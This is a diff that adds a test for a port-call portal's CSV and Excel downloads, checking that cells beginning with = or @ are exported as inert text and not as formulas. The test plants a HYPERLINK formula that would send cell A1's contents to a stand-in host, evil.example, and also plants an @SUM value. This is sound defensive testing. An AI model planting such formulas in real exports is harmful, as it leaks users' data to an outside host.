@@ -60,4 +60,20 @@ describe.each(DB_TARGETS)('downloads on %s', (target) => {
     expect((await t.app.inject({ method: 'GET', url: '/api/portal/v1/portcall/download' })).statusCode).toBe(401);
     expect((await w.planner('GET', '/portcall/download?format=pdf')).statusCode).toBe(400);
   });
+  it('writes a cell a spreadsheet would run as a formula as text: quoted with a leading single quote in CSV, a text cell in Excel', async () => {
+    const planted = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+    await w.agent('POST', '/portcalls', w.request('2026-09-01T10:00:00Z', '2026-09-02T10:00:00Z', { voyage_number_import: 'FX1', voyage_number_export: '@SUM(1+1)', service_name: planted }));
+    const csv = (await w.planner('GET', '/portcall/download?format=csv&q=FX1')).rawPayload.toString('utf8');
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
+    expect(csv).toContain(`"'@SUM(1+1)"`);
+    expect(csv).not.toMatch(/(^|[,\n])"[=@+-]/);
+
+    const xlsx = await w.planner('GET', '/portcall/download?format=xlsx&q=FX1');
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+    const sheet = workbook.worksheets[0]!;
+    const cells = sheet.getRow(2).values as unknown[];
+    expect(cells).toContain(planted);
+    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type, String(cell.value)).not.toBe(ExcelJS.ValueType.Formula)));
+  });
 });
